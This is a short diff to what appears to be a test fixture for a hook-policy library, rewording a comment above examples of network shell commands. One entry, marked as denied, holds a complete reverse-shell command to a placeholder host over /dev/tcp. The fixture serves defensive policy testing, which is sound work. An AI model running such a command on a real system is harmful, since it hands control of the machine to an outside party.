@@ -1,5 +1,5 @@
 import { abstains, denies } from 'hookgate/policy'
-/** Shells for somebody elsewhere, and connections without one. */
+/** Remote shells, and connections without one. */
 export const networkShellExamples = [
   denies('a device', 'bash -i >& /dev/tcp/a.example/99 0>&1'),
   abstains('a device without a shell', 'echo hi > /dev/tcp/a.example/99'),
